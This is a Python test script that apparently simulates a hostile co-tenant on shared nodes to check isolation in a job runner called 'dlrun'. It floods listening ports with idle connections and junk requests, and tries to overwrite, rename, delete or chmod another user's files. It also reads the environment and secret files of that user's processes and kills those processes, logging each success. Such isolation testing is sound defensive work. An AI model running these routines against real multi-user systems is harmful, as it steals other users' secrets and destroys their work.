"""Another user of the nodes, who runs this on each of them: every way to a job that its address and its files offer.

`attacker.py PLACE HOST MODE [DIRECTORY]...`: PLACE is a directory that the attackers of all hosts share, where `observer.py`
writes what listens; what succeeds is a line in PLACE/won. MODE: `connect` attacks ports, `all` files and processes, too, also
in these directories, where others have theirs.
"""

# ruff: noqa: PTH101, PTH104, PTH108, PTH116, PTH123, PTH207, PTH208

import glob
import os
import signal
import socket
import sys
import threading
import time

PLACE, HOST, MODE, *SHARED = sys.argv[1:]
VICTIM = 7001
NOISE = (
    b"",
    os.urandom(200),
    b"dlrun-1\n" + b"x" * 16,
    b"N" + b"%16d" % 5,
    b"B" + b"x" * 1000,
    b"GET /t/0 HTTP/1.1\r\n\r\n",
    b"PUT /t/0 HTTP/1.1\r\nContent-Length: 5\r\n\r\nwrong",
    b"DELETE /t/0 HTTP/1.1\r\n\r\n",
)
held = []
heard = set()


def won(what):
    with open(PLACE + "/won", "a") as file:
        file.write(f"{HOST}: {what}\n")


def count(what, number):
    """For the test, which ends this at any moment."""
    part = f"{PLACE}/.{what}-{HOST}-{threading.get_ident()}"
    with open(part, "w") as file:
        file.write(str(number))
    os.rename(part, f"{PLACE}/{what}-{HOST}")


def targets():
    for path in glob.glob(PLACE + "/ports-*"):
        with open(path) as lines:
            for line in lines:
                if line.endswith("\n") and line.startswith("tcp "):
                    yield path.rpartition("-")[2], int(line.split()[1])


def connect():
    """Idle connections by the hundred, noise, what was heard from a listener said to it again."""
    met = 0
    while True:
        for where in list(targets()):
            try:
                for data in (*NOISE, *list(heard)[:20]):
                    made = socket.create_connection(where, 2)
                    met += 1
                    made.settimeout(0.02)
                    made.sendall(data)
                    if len(held) < 600 and not data:
                        held.append(made)
                        continue
                    try:
                        answer = made.recv(4096)
                        heard.add(answer)
                        if b" 200 " in answer[:20]:
                            won(f"port {where[1]} answered {answer[:40]!r} to {data[:20]!r}")
                    except OSError:
                        pass
                    made.close()
            except OSError:
                pass
        count("met", met)
        time.sleep(0.05)


def damage():
    """Open, replace, remove and link over whatever of the victim's can be named; read secrets; end processes."""
    mine, tried = os.getuid(), 0
    while True:
        for base in ("/tmp", "/dev/shm", "/run", "/var/tmp"):
            for path in (
                glob.glob(base + "/*dlrun*") + glob.glob(base + "/*dlrun*/*") + glob.glob(base + "/.*dlrun*")
            ):
                tried += attack(path, mine)
        for base in SHARED:
            for path in [base + "/" + name for name in os.listdir(base)]:
                tried += attack(path, mine)
                for name in ("submission.json", "job.sh", "lib/job.sh", "logs/rank-0.log", "usage/x.jsonl"):
                    tried += attack(path + "/" + name, mine)
        for process in glob.glob("/proc/[0-9]*"):
            try:
                if os.stat(process).st_uid != VICTIM:
                    continue
                with open(process + "/cmdline", "rb") as file:
                    if b"OPENSESAME" in file.read():
                        won("read the secret on a command line")
                for name in ("environ", "cwd/secret"):
                    with open(f"{process}/{name}", "rb") as file:
                        won(f"read {name} of a process")
            except OSError:
                pass
            try:
                os.kill(int(process[6:]), signal.SIGKILL)
                won("killed a process")
            except (OSError, ValueError):
                pass
        count("tried", tried)
        time.sleep(0.05)


def attack(path, mine):
    try:
        if os.lstat(path).st_uid == mine:
            return 0
    except OSError:
        return 0
    for what, how in (
        ("wrote into", lambda: os.close(os.open(path, os.O_WRONLY | os.O_NOFOLLOW))),
        ("listed", lambda: os.listdir(path)),
        ("made a file in", lambda: os.close(os.open(path + "/mine", os.O_WRONLY | os.O_CREAT))),
        ("renamed", lambda: os.rename(path, path + "-gone")),
        ("removed", lambda: os.unlink(path)),
        ("changed the mode of", lambda: os.chmod(path, 0o777)),
    ):
        try:
            how()
            won(f"{what} {path}")
        except OSError:
            pass
    return 1


os.nice(10)  # hosts of a test share their cores with it
for work in {"connect": [connect, connect], "all": [connect, connect, damage]}[MODE]:
    threading.Thread(target=work, daemon=True).start()
time.sleep(900)
